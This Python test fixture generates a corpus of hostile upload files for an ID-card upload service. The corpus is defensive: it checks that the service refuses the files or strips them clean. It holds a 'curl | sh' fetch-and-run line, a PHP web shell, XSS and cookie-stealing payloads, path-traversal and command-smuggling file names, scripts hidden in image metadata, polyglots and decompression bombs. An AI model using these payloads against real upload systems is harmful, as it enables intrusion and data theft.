"""The corpus of hostile files: `HOSTILE[class](seed)` gives one; classes x seeds give thousands.

`must_refuse` says that the office may not take it at all; the others may be taken once nothing
of `canary` and nothing active is left in what is stored.
"""

import io
import random
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import lru_cache

from PIL import Image

from .active_pdfs import ACTIVE
from .broken_pdfs import BROKEN_PDFS, HEAVY_PDFS, MENDED, MENDED_HEAVY
from .genuine import drawing, encoded, jpeg, letter, png, png_chunk, scan
from .planted_pdfs import FEW, planted

CANARY = b"KANARI-<script>alert(1)</script>"


@dataclass(frozen=True)
class Bad:
    """One hostile file under the name it arrives with."""

    name: str
    content: bytes
    must_refuse: bool = True
    canary: bytes = b""


@lru_cache(maxsize=2)
def _other_formats(seed: int) -> dict[str, bytes]:
    """Contents that are no JPG, PNG or PDF, by kind."""
    chance = random.Random(seed)
    picture = drawing(seed, (64, 64))
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w") as archive:
        archive.writestr("a.html", CANARY)
    script = b"<script>alert(%d)</script>" % seed
    return {
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + script + b"</svg>",
        "svg with header": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
        "html": b"<!doctype html><html>" + script,
        "html after blank": b"\n\n   <html>" + script,
        "html after bom": b"\xef\xbb\xbf<html>" + script,
        "gif": encoded(picture, "GIF"),
        "tiff": encoded(picture, "TIFF"),
        "webp": encoded(picture, "WEBP"),
        "bmp": encoded(picture, "BMP"),
        "ico": encoded(picture, "ICO"),
        "ppm": encoded(picture, "PPM"),
        "tga": encoded(picture, "TGA"),
        "jpeg 2000": encoded(picture, "JPEG2000"),
        "pcx": encoded(picture, "PCX"),
        "eps": encoded(picture, "EPS"),
        "heic": b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + chance.randbytes(400),
        "heif": b"\0\0\0\x18ftypmif1\0\0\0\0mif1heic" + chance.randbytes(400),
        "avif": b"\0\0\0\x18ftypavif\0\0\0\0mif1avif" + chance.randbytes(400),
        "mp4": b"\0\0\0\x18ftypisom\0\0\2\0isommp41" + chance.randbytes(400),
        "zip": box.getvalue(),
        "docx": box.getvalue().replace(b"a.html", b"word/d"),
        "rar": b"Rar!\x1a\x07\1\0" + chance.randbytes(300),
        "gzip": zlib.compress(CANARY, wbits=31),
        "exe": b"MZ\x90\0" + chance.randbytes(500),
        "elf": b"\x7fELF\2\1\1" + chance.randbytes(500),
        "shell": b"#!/bin/sh\ncurl http://contoh.id | sh\n",
        "php": b"<?php system($_GET[0]); ?>",
        "javascript": b"alert(document.cookie)//" + chance.randbytes(20),
        "text": b"KTP saya hilang " * 20,
        "json": b'{"jenis": "ktp"}',
        "postscript": b"%!PS-Adobe-3.0\n(x) show showpage",
        "xps": box.getvalue() + b"FixedDocSeq",
        "random": b"\1" + chance.randbytes(2000),
        "zeros": bytes(5000),
        "spaces": b" " * 4000,
        "utf-16": "<html><script>alert(1)</script>".encode("utf-16"),
        "flash": b"CWS\x0a" + chance.randbytes(300),
        "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + chance.randbytes(300),
        "psd": b"8BPS\0\1" + chance.randbytes(300),
        "dicom": bytes(128) + b"DICM" + chance.randbytes(300),
        "wasm": b"\0asm\1\0\0\0" + chance.randbytes(300),
    }


@lru_cache(maxsize=2)
def _goods(seed: int) -> dict[str, bytes]:
    return {
        "jpg": jpeg(seed),
        "progressive.jpg": jpeg(seed, progressive=True),
        "png": png(seed),
        "pdf": scan(seed, 2),
        "letter.pdf": letter(seed, 2, picture=True),
    }


def _wrong_inside(kind: str, extension: str) -> Callable[[int], Bad]:
    return lambda seed: Bad(f"KTP.{extension}", _other_formats(seed)[kind])


def _cut(good: str, share: float) -> Callable[[int], Bad]:
    def make(seed: int) -> Bad:
        content = _goods(seed)[good]
        return Bad(f"potong.{good}", content[: max(1, int(len(content) * share))])

    return make


def _flipped(good: str, bytes_: int) -> Callable[[int], Bad]:
    """Damaged on the way; what still decodes may be taken, as long as it is clean."""

    def make(seed: int) -> Bad:
        chance = random.Random(seed * 1000 + bytes_)
        content = bytearray(_goods(seed)[good])
        for _ in range(bytes_):
            content[chance.randrange(len(content))] = chance.randrange(256)
        return Bad(f"rusak.{good}", bytes(content), must_refuse=False)

    return make


def _behind(good: str, prefix: bytes) -> Callable[[int], Bad]:
    return lambda seed: Bad(f"a.{good}", prefix + _goods(seed)[good])


def _followed(good: str, tail: bytes) -> Callable[[int], Bad]:
    """A polyglot: a good file with another behind its end."""
    return lambda seed: Bad(
        f"a.{good}", _goods(seed)[good] + tail, must_refuse=False, canary=tail[:40].strip()
    )


def _named(name: str, good: str) -> Callable[[int], Bad]:
    return lambda seed: Bad(name, _goods(seed)[good])


def _carried(seed: int, place: str) -> Bad:
    """A script where a picture keeps words about itself."""
    picture = drawing(seed)
    if place == "comment":
        return Bad("a.jpg", encoded(picture, "JPEG", comment=CANARY), False, CANARY)
    if place == "exif":
        facts = Image.Exif()
        facts[0x010E] = facts[0x9286] = CANARY.decode()
        return Bad("a.jpg", encoded(picture, "JPEG", exif=facts), False, CANARY)
    if place == "xmp":
        return Bad("a.jpg", encoded(picture, "JPEG", xmp=CANARY), False, CANARY)
    if place == "profile":
        return Bad("a.jpg", encoded(picture, "JPEG", icc_profile=CANARY * 9), False, CANARY)
    kind = {"text": b"tEXt", "unknown": b"abCd", "xml": b"iTXt", "exif chunk": b"eXIf"}[place]
    good = encoded(picture, "PNG")
    head, tail = good[:33], good[33:]
    return Bad("a.png", head + png_chunk(kind, b"k\0" + CANARY) + tail, False, CANARY)


def _png_of(width: int, height: int, depth: int = 8, colour: int = 0) -> bytes:
    """A PNG that says it is large and is nearly nothing."""
    head = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([depth, colour, 0, 0, 0])
    rows = zlib.compress(bytes(min((width + 1) * height, 4_000_000)))
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        png_chunk(*chunk) for chunk in ((b"IHDR", head), (b"IDAT", rows), (b"IEND", b""))
    )


def _jpeg_of(width: int, height: int) -> bytes:
    content = bytearray(encoded(drawing(0, (64, 64)), "JPEG"))
    frame = content.index(b"\xff\xc0")
    content[frame + 5 : frame + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    return bytes(content)


def _text_bomb(kind: bytes) -> bytes:
    good = encoded(drawing(0, (64, 64)), "PNG")
    packed = zlib.compress(bytes(64 * 1024 * 1024), 9)
    return good[:33] + png_chunk(kind, b"k\0\0" + packed) + good[33:]


def _sized(good: str, size: int) -> Callable[[int], Bad]:
    def make(seed: int) -> Bad:
        content = _goods(seed)[good]
        return Bad(f"besar.{good}", content + bytes(size - len(content)))

    return make


def _planted(what: str) -> Callable[[int], Bad]:
    def make(seed: int) -> Bad:
        content, words = planted(what, seed)
        return Bad("a.pdf", content, must_refuse=False, canary=words)

    return make


EXTENSIONS = ("jpg", "png", "pdf")
CUTS = (0.001, 0.01, 0.05, 0.1, 0.25, 0.5, 0.75, 0.9, 0.97)
FOREIGN_NAMES = ("KTP", "KTP.", ".jpg.exe", "KTP.jpg.html", "KTP.svg", "KTP.gif", "KTP.txt", "")
HIDDEN_NAMES = (
    *("../../etc/passwd", "..\\..\\web.config", "/etc/cron.d/x", "KTP.jpg\0.php", "CON", "~", "."),
    *("KTP.jpg\r\nX-A: b", "%2e%2e%2fKTP", "a" * 300, "\u202egpj.exe", "KTP.p\u200bng", "*", "|id"),
)
PREFIXES = {
    "MZ": b"MZ\x90\0",
    "blank": b" ",
    "newline": b"\r\n",
    "html": b"<html><script>alert(1)</script>",
    "GIF": b"GIF89a",
    "zip": b"PK\3\4",
    "bom": b"\xef\xbb\xbf",
    "kilobyte": b"\n" * 1000,
}
TAILS = {
    "html": b"\n" + CANARY,
    "php": b"<?php KANARI_php_system($_GET[0]); ?>",
    "zip": b"PK\3\4 KANARI zip tail" + bytes(40),
    "large": b"KANARI large tail" + bytes(60_000),
}
SIZES = ((40_001, 1000), (10_001, 100), (10_000, 10_000), (30_000, 30_000), (65_000, 65_000))

LIGHT: dict[str, Callable[[int], Bad]] = {
    **{f"empty {e}": lambda _, e=e: Bad(f"kosong.{e}", b"") for e in EXTENSIONS},
    **{f"one byte {e}": lambda seed, e=e: Bad(f"k.{e}", bytes([seed % 256])) for e in EXTENSIONS},
    **{
        f"{kind} as {extension}": _wrong_inside(kind, extension)
        for kind in _other_formats(0)
        for extension in EXTENSIONS
    },
    **{f"{good} cut at {share}": _cut(good, share) for good in _goods(0) for share in CUTS},
    **{f"{good}, {n} bytes flipped": _flipped(good, n) for good in _goods(0) for n in (3, 40, 900)},
    **{
        f"{good} behind {what}": _behind(good, prefix)
        for good in ("jpg", "png", "pdf")
        for what, prefix in PREFIXES.items()
    },
    **{
        f"{good} with {what} tail": _followed(good, tail)
        for good in ("jpg", "png", "pdf")
        for what, tail in TAILS.items()
    },
    **{f"jpeg named {name[:20]!r}": _named(name, "jpg") for name in FOREIGN_NAMES + HIDDEN_NAMES},
    **{
        f"{good} named {extension}": _named(f"KTP.{extension}", good)
        for good in ("jpg", "png", "pdf")
        for extension in EXTENSIONS
        if extension != good
    },
    **{
        f"script in {place}": lambda seed, place=place: _carried(seed, place)
        for place in ("comment", "exif", "xmp", "profile", "text", "unknown", "xml", "exif chunk")
    },
    **{f"{good} of 5 MB and 1": _sized(good, 5 * 2**20 + 1) for good in ("jpg", "png", "pdf")},
    **{f"{good} of 6 MB": _sized(good, 6 * 2**20) for good in ("jpg", "png", "pdf")},
    **{
        f"pdf with {what}": lambda seed, make=make: Bad(
            "a.pdf", make(seed), must_refuse=False, canary=b"KANARI"
        )
        for what, make in ACTIVE.items()
    },
    **{f"pdf with {what} planted": _planted(what) for what in FEW},
    **{
        f"pdf {what}": lambda seed, make=make: Bad("a.pdf", make(seed))
        for what, make in BROKEN_PDFS.items()
    },
    **{
        f"pdf {what}": lambda seed, make=make: Bad("a.pdf", make(seed), must_refuse=False)
        for what, make in MENDED.items()
    },
}
BOMBS: dict[str, Callable[[int], Bad]] = {  # only to be opened in the jail
    **{f"png of {w}x{h}": lambda _, w=w, h=h: Bad("bom.png", _png_of(w, h)) for w, h in SIZES},
    **{f"jpeg of {w}x{h}": lambda _, w=w, h=h: Bad("bom.jpg", _jpeg_of(w, h)) for w, h in SIZES},
    **{
        f"png with {kind.decode()} bomb": lambda _, k=kind: Bad(
            "bom.png", _text_bomb(k), must_refuse=False
        )
        for kind in (b"zTXt", b"iCCP")
    },
    **{
        f"pdf {what}": lambda seed, make=make: Bad("a.pdf", make(seed))
        for what, make in HEAVY_PDFS.items()
    },
    **{
        f"pdf {what}": lambda seed, make=make: Bad("a.pdf", make(seed), must_refuse=False)
        for what, make in MENDED_HEAVY.items()
    },
}
HOSTILE = LIGHT | BOMBS


def hostile(seeds: int) -> Iterator[tuple[str, Bad]]:
    """Every class for so many seeds: 5 give more than 2,000 files."""
    for seed in range(seeds):
        for name, make in HOSTILE.items():
            yield name, make(seed)
